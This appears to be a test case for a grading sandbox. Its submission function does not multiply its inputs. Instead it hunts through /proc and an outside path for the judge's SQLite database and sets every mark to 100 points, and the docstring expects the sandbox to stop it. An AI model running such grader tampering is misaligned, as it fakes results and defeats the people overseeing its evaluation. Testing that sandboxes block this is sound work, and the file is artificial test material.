"""Opens the judge's database and writes itself a mark.

status: error, crashed, timeout, failed, not_allowed
"""
# %% exercise="01.mul"
import glob
import os
import sqlite3


def mul_local(a, b):
    places = [os.path.join(OUTSIDE, "marks.sqlite"), *glob.glob("/proc/*/cwd/**/*.sqlite")]
    places += [link for link in glob.glob("/proc/*/fd/*") if ".sqlite" in _target(link)]
    for place in places:
        try:
            with sqlite3.connect(place) as database:
                database.execute("UPDATE marks SET points = 100")
            return b, a
        except sqlite3.Error:
            continue
    return 0.0, 0.0


def _target(link):
    try:
        return os.readlink(link)
    except OSError:
        return ""
